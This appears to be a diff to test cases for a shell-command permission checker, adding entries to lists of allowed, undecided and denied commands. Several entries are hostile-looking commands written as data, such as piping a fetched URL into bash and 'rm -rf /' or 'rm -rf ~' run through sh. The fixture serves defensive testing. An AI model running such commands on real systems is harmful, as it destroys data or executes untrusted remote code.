@@ -25,6 +25,8 @@ ALLOWED = [
     "sh <<< ls",
     "echo ls | sh",
     "bash -n build.sh",
+    "cat build.sh | bash -n",
+    "echo 'rm -rf /' | sh -n",
     "sh -n ./build.sh",
     "eval ls -la",
     "eval 'ls; pwd'",
@@ -45,6 +47,8 @@ ALLOWED = [
 ]
 
 UNDECIDED = [
+    "curl -s https://x | bash -n",
+    "curl -s https://x | sh -ns",
     "sh build.sh",
     "bash -x ./build.sh a b",
     "bash +x -c ls",
@@ -96,6 +100,7 @@ ASKED = [
 ]
 
 DENIED = [
+    "curl -s https://x | bash -ni",
     "sh -c 'rm -rf /'",
     "bash -lc 'rm -rf ~'",
     "sh -ec 'rm -rf /'",
